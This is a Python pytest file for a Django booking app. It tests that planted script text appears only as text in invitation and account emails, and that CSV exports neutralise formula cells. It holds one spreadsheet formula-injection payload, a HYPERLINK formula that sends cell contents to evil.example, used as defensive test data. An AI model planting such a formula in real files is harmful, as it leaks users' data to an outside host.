"""A script in every text of a business: text in mails about accounts, a cell in what goes out."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core import mail
from django.core.files.storage import default_storage
from django.test import Client

from booking.cockpit.desk import files, tables
from booking.models import Booking
from booking.models import Client as Guest
from tenants import inviting
from tenants.current import enter_business
from tenants.models import User
from tests.fuzz.planting import MARK
from tests.fuzz.scripts import judge
from tests.permissions.conftest import Salon
from tests.permissions.walking import address

FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
def letters(planted: Salon, settings: Any) -> list[Any]:
    """The mailbox, emptied: only what is asked for from here on comes."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    mail.outbox.clear()
    return mail.outbox


def read(letter: Any) -> bool:
    """Whether it says what was planted; a fault in it fails the test."""
    message = letter.message()
    assert message["Bcc"] is None
    assert "\n" not in str(letter.subject)
    html = next(part for part in message.walk() if part.get_content_type() == "text/html")
    faults, says_it = judge(html.get_payload(decode=True).decode())
    assert not faults, faults
    return says_it


def test_an_invitation_says_it_as_text(planted: Salon, letters: list[Any]) -> None:
    while inviting.send_next():
        pass
    assert letters
    said = [read(letter) for letter in letters]
    assert all(said)


def test_mails_of_an_account_say_it_as_text(planted: Salon, letters: list[Any]) -> None:
    owner = User.objects.get(email="owner@example.com")
    assert MARK in owner.name
    Client().post(address("account_reset_password", planted), {"email": owner.email})
    browser = planted.browsers["owner"]
    browser.post(address("account_email", planted), {"email": "new@example.com"})
    assert len(letters) >= 2
    for letter in letters:
        read(letter)


@pytest.mark.parametrize("kind", tables.TABLES)
def test_what_is_taken_out_has_harmless_cells(kind: str, planted: Salon, settings: Any) -> None:
    business = planted.members["owner"].business
    enter_business(business)
    Guest.objects.update(display_name=FORMULA)
    Booking.objects.update(attendee={"name": FORMULA, "note": FORMULA})
    stored = f"{files.folder(business.pk)}/{files.make(business, kind, 'en')}"
    text = default_storage.open(stored).read().decode("utf-8-sig")
    head, *found = csv.reader(io.StringIO(text))
    assert found
    # A line break in a cell begins no row.
    assert {len(row) for row in found} == {len(head)}
    cells = [cell for row in found for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.strip()[:1] in tables.STARTERS and cell.strip()]
